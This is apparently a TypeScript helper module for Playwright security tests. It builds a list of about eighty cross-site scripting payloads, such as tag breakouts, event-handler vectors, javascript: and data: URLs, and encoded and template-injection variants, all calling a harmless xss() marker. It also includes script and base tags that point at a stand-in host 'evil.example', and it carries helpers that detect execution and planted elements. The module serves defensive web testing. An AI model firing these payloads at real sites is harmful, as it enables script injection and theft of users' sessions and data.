import type { BrowserContext, Page } from "@playwright/test";

/** Ways out of where a text may stand: an attribute, a script, a title, a comment, a text box, a replacement. */
const WAYS_OUT = ["", '">', "'>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "$&$'"];

/** Texts that would run, or at least be an element, once they are out. `xss` reports itself. */
const VECTORS = [
  "<img src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<script>xss()</script>",
  '<iframe srcdoc="<script>parent.xss()</script>">',
  "<a href=javascript:xss() class=xss>x</a>",
  "<details open ontoggle=xss()>",
];

const IN_OTHER_LANGUAGES = [
  "javascript:xss()",
  "JaVaScRiPt:xss()//",
  "data:text/html,<script>parent.xss()</script>",
  "';xss();//",
  '";xss();//',
  "\\';xss();//",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "%3Cscript%3Exss()%3C%2Fscript%3E",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;script&#62;xss()&#60;/script&#62;",
  "\uff1cscript\uff1exss()\uff1c/script\uff1e",
  "{{constructor.constructor('xss()')()}}",
  "${xss()}",
  "<!--<script>xss()</script>",
  "<ScRiPt/x>xss()</ScRiPt>",
  "<script src=//evil.example/x.js>",
  "<base href=//evil.example class=xss>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<style class=xss>*{background:url(javascript:xss())}",
  "__proto__<b class=xss>",
];

/** 80 texts that people could type, each an attempt to be more than a text. */
export const payloads: readonly string[] = [
  ...IN_OTHER_LANGUAGES,
  ...WAYS_OUT.flatMap((out) => VECTORS.map((vector) => out + vector)),
];

/** Every way out at once, for when there is little time. */
export const allAtOnce = `"'></title></textarea></script><img src=x onerror=xss()>$&`;

/** Everything that must not happen, as it happens: in any page or frame of this browser. */
export async function watchForScripts(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeBinding(
    "report",
    ({ page }, what: string) => void seen.push(`${what} on ${page.url()}`),
  );
  await context.addInitScript(`
    window.xss = () => report("executed");
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
      report("stopped by the policy: " + effectiveDirective + " " + blockedURI + " " + sample));
  `);
  return seen;
}

/** Finds everything in the page that is more than a text: handlers, addresses that run, marked elements. */
export const findPlanted = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [...document.querySelectorAll("*")]
      .filter((element) => {
        const runs = [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith("on") ||
            (/^(href|src|action|formaction|srcdoc|data|xlink:href|content)$/.test(name) &&
              /^\s*(javascript:|data:text|0;url)/i.test(value)),
        );
        const isScript =
          element instanceof HTMLScriptElement &&
          element.type !== "application/json" &&
          /^\s*(parent\.)?xss\(/.test(element.text);
        return runs || isScript || element.classList.contains("xss") || element.localName === "base";
      })
      .map((element) => `${location.href}: ${element.outerHTML.slice(0, 120)}`),
  );

/** Waits until a text is in the page or in one of its fields. */
export const waitUntilShown = (page: Page, text: string): Promise<unknown> =>
  page.waitForFunction(
    (wanted) => {
      const fields = [...document.querySelectorAll<HTMLInputElement>("input, textarea, select")];
      return [document.body.textContent, ...fields.map(({ value }) => value)].some((each) =>
        each.includes(wanted),
      );
    },
    text,
    { timeout: 15_000 },
  );
